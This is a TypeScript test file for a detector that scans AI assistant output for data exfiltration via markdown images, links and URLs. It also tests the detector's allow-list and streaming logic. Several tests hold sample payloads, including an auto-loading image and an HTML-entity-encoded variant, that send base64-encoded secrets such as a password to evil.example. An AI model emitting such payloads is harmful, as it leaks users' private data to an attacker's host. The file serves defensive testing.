import { readFileSync } from 'node:fs';
import type { Checkpoint, Finding } from '@sallyport/core';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { createInspector } from '../engine/create-inspector.ts';
import { subjectOf, unsoundCuts } from '../matches/fixtures/subject-of.ts';
import { MAX_URL_CHARS } from './candidates.ts';
import { createExfiltrationDetector } from './detector.ts';
import { isAllowed, normalisedHosts } from './hosts.ts';
import { carriedData } from './payload.ts';

interface Case {
  readonly name: string;
  readonly text: string;
  readonly point?: Checkpoint;
  readonly allow?: readonly string[];
  readonly expect: readonly { readonly type: string; readonly match: string }[];
}

const cases = readFileSync(new URL('cases.jsonl', import.meta.url), 'utf8')
  .trim()
  .split('\n')
  .map((line): Case => JSON.parse(line));

const open = createExfiltrationDetector();
const subject = subjectOf(open);

function findings({ text, point = 'output', allow = [] }: Pick<Case, 'text' | 'point' | 'allow'>): readonly Finding[] {
  const detectors = [createExfiltrationDetector({ allowHosts: allow })];
  const inspector = createInspector({ detectors, fingerprint: (value) => value });
  return inspector.inspect(text, { point, origin: { role: 'assistant', field: 'content' } }).findings;
}

describe('createExfiltrationDetector()', () => {
  test.each(cases)('finds exactly what it should in: $name', (each) => {
    const told = each.expect.some(({ type }) => type === 'outside-link');
    const found = findings(each)
      .filter(({ type }) => told || type !== 'outside-link')
      .map(({ type, span }) => ({ type, match: each.text.slice(span.start, span.end) }));
    expect(found).toEqual(each.expect);
  });

  test('has positives for every type and at least twenty near-misses', () => {
    const positive = new Set(cases.flatMap((each) => each.expect.map(({ type }) => type)));
    expect([...positive].sort()).toEqual([...open.types].sort());
    expect(cases.filter((each) => each.expect.length === 0).length).toBeGreaterThanOrEqual(20);
  });

  test('scores an image that loads by itself above a link, and a link above a bare URL', () => {
    const url = 'https://evil.example/r?d=VGhlIGN1c3RvbWVyJ3MgcGFzc3dvcmQgaXMgaHVudGVyMg';
    const [image = 0, link = 0, bare = 0] = [`![a](${url})`, `[a](${url})`, url].map(
      (text) => findings({ text })[0]?.score ?? 0,
    );
    expect(image).toBeGreaterThan(link);
    expect(link).toBeGreaterThan(bare);
    expect(bare).toBeGreaterThan(0.5);
  });

  test('names the decoding when the image was written in entities', () => {
    const text = '&#33;&#91;a&#93;&#40;https&#58;//evil.example/p?d=VGhlIGN1c3RvbWVyJ3MgcGFzc3dvcmQ&#41;';
    const image = findings({ text }).find(({ type }) => type === 'markdown-image');
    expect(image?.via).toContain('html-entity');
  });

  test('reads no more than `MAX_URL_CHARS` of a URL', () => {
    const [finding] = findings({ text: `![a](https://evil.example/?d=${'QWJj'.repeat(2000)})` });
    expect((finding?.span.end ?? 0) - (finding?.span.start ?? 0)).toBe(MAX_URL_CHARS);
  });

  test('the allow-list is part of the version', () => {
    expect(createExfiltrationDetector({ allowHosts: ['a.example'] }).version).not.toBe(open.version);
  });
});

describe('pendingFrom()', () => {
  const atOutput = cases.filter((each) => each.point === undefined && each.allow === undefined).map(({ text }) => text);

  test('never lets a scheme slip that a word runs into', () => {
    const text = 'const x = list[0](value); // see map[key]: stringhttps://evil.example/c?u=ada%40example.org&n=1';
    expect(unsoundCuts(subject, text)).toEqual([]);
  });

  test.each(atOutput)('never lets a match begin in what it released: %s', (text) => {
    expect(unsoundCuts(subject, text).slice(0, 1)).toEqual([]);
  });

  test('never lets a match slip when cases stand side by side', () => {
    const pieces = fc.tuple(
      fc.constantFrom(...atOutput),
      fc.constantFrom('', ' ', '\n', '[', '](', '!'),
      fc.constantFrom(...atOutput),
    );
    fc.assert(
      fc.property(pieces, ([first, between, second]) => {
        expect(unsoundCuts(subject, `${first}${between}${second}`).slice(0, 1)).toEqual([]);
      }),
      { numRuns: 25 },
    );
  }, 60_000);

  test.each(['Hello world', 'An array: list[0', 'a link [text] follows', '![alt', '<img ', 'x < y'])(
    'holds nothing of: %s',
    (text) => expect(subject.pendingFrom(text)).toBe(text.length),
  );

  test.each([
    ['see https://docs.exam', 4],
    ['![a](htt', 5],
    ['<img src="//ev', 10],
    ['go to htt', 6],
    ['done ww', 5],
    ['the stringhttps:/', 15],
    ['[a](javasc', 4],
    ['[a](./ima', 9],
  ])('holds the URL alone of: %s', (text, from) => expect(subject.pendingFrom(text)).toBe(from));
});

describe('isAllowed()', () => {
  const allowed = normalisedHosts(['Example.org', '*.cdn.example', 'bücher.example', 'not a host']);

  test.each([
    'example.org',
    'a.b.example.org',
    'cdn.example',
    'x.cdn.example',
    'xn--bcher-kva.example',
    'example.org.',
  ])('takes %s', (host) => expect(isAllowed(host, allowed)).toBe(true));

  test.each(['example.org.evil.example', 'notexample.org', 'org', 'example', ''])('refuses %s', (host) => {
    expect(isAllowed(host, allowed)).toBe(false);
  });
});

test('carriedData() is a share between 0 and 1 for any URL', () => {
  fc.assert(
    fc.property(fc.webUrl({ withQueryParameters: true, withFragments: true }), (text) => {
      const carried = carriedData(new URL(text));
      expect(carried >= 0 && carried <= 1).toBe(true);
    }),
  );
});
